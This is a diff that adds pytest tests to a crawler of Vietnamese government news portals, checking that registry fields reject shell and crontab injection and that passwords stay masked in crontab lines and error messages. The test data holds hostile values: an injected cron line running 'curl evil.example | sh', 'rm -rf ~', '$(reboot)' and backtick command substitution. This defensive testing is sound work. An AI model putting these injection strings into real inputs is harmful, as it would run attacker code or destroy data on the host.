@@ -4,10 +4,15 @@ operators' mistakes on the command line and in the registry. In-process, no craw
 from __future__ import annotations
 
 import re
+import subprocess
 
 import pytest
+from conftest import PROJECT, SCRAPY
 from test_pipelines import Chain, article
 
+from crawler.db import DatabaseConfigError, make_engine, masked_url
+from crawler.registry import RegistryError, load_registry
+from crawler.scheduling import Job, SchedulingError, crontab_lines, post_job
 from crawler.text.legacy_fonts import TCVN3_TO_UNICODE
 from crawler.text.normalize import decode_html, diacritics_quality
 
@@ -61,3 +66,102 @@ def test_control_characters_never_reach_title_author_or_category(tmp_path):
     assert item["title"] == "Hội nghị[31m triển khai"
     assert item["author"] == "NguyễnVăn A"
     assert item["category"] == "Tin tức"
+
+
+# ------------------------------------------------------------------ operators' mistakes
+
+REGISTRY_ENTRY = """[[portal]]
+id = {id}
+host = {host}
+family = "haiduong"
+name = "Xã A"
+level = "xã"
+province = "Hải Dương"
+listings = [{listing}]
+"""
+
+
+def registry_file(tmp_path, id='"xa-a"', host='"a.gov.vn"', listing='"http://a.gov.vn/tin"'):
+    path = tmp_path / "portals.toml"
+    path.write_text(REGISTRY_ENTRY.format(id=id, host=host, listing=listing), encoding="utf-8")
+    return path
+
+
+@pytest.mark.parametrize(
+    ("field", "value", "message"),
+    [
+        ("id", '"xa-a\\n* * * * * curl evil.example | sh"', "line break or control character"),
+        ("id", '"xa-a;rm -rf ~"', "may hold only letters, digits"),
+        ("id", '"$(reboot)"', "may hold only letters, digits"),
+        ("host", '"a.gov.vn`id`"', "is not a host name"),
+        ("host", '"a.gov.vn a"', "is not a host name"),
+        ("listing", '"http://a.gov.vn/tin\\n30 1 * * * sh"', "spaces or control characters"),
+    ],
+)
+def test_registry_ids_hosts_and_urls_cannot_carry_shell_or_crontab_text(
+    tmp_path, field, value, message
+):
+    with pytest.raises(RegistryError, match=message):
+        load_registry(registry_file(tmp_path, **{field: value}))
+
+
+def test_the_crontab_holds_no_injected_line_and_no_password(tmp_path):
+    registry = load_registry(registry_file(tmp_path))
+    lines = crontab_lines(
+        registry, "/srv/c", "/srv/c/.venv/bin/scrapy", "/srv/c/logs/s.log",
+        "http://ops:s3cret@127.0.0.1:6800",
+    )  # fmt: skip
+    text = "\n".join(lines)
+    assert "s3cret" not in text
+    assert "SCRAPYD_URL=http://127.0.0.1:6800" in lines
+    assert "SCRAPYD_USERNAME=ops" in lines
+    commands = [line for line in lines if not line.startswith("#") and "=" not in line.split()[0]]
+    assert len(commands) == 1
+
+
+@pytest.mark.parametrize(
+    "url",
+    ["postgresql://crawler:s3cret@db.example:5432/news", "http://ops:s3cret@127.0.0.1:6800/"],
+)
+def test_passwords_are_masked_in_messages(url):
+    assert "s3cret" not in masked_url(url) and ":***@" in masked_url(url)
+    with pytest.raises(DatabaseConfigError) as raised:
+        make_engine(url.replace("postgresql", "mysql+nosuchdriver").replace("http", "mysql+x"))
+    assert "s3cret" not in str(raised.value)
+
+
+def test_an_unreachable_scrapyd_message_hides_its_password():
+    with pytest.raises(SchedulingError) as raised:
+        post_job("http://ops:s3cret@127.0.0.1:9/", "crawler", Job("haiduong"), timeout=2)
+    assert "s3cret" not in str(raised.value) and "ops:***@127.0.0.1" in str(raised.value)
+
+
+def run_command(*arguments, env=None, tmp_path=None):
+    environment = {"PATH": "/usr/bin:/bin", **(env or {})}
+    if tmp_path is not None:
+        environment.setdefault("DATABASE_URL", f"sqlite:///{tmp_path / 'c.db'}")
+    return subprocess.run(
+        [SCRAPY, *arguments], cwd=PROJECT, env=environment, capture_output=True, text=True,
+        timeout=120,
+    )  # fmt: skip
+
+
+def one_error_line(result) -> str:
+    errors = [line for line in result.stderr.splitlines() if line.startswith("error:")]
+    assert len(errors) == 1 and "Traceback" not in result.stderr, result.stderr[-2000:]
+    return errors[0]
+
+
+def test_scrapy_schedule_flags_a_password_without_a_user_name(tmp_path):
+    result = run_command(
+        "schedule", "--crontab", env={"SCRAPYD_PASSWORD": "s3cret"}, tmp_path=tmp_path
+    )
+    assert result.returncode == 2
+    assert "SCRAPYD_USERNAME is not" in one_error_line(result)
+    assert "s3cret" not in result.stdout + result.stderr
+
+
+def test_scrapy_reparse_with_an_unknown_portal_is_one_line_and_exit_2(tmp_path):
+    result = run_command("reparse", "--portal", "nowhere", tmp_path=tmp_path)
+    assert result.returncode == 2
+    assert "unknown portal 'nowhere'" in one_error_line(result)
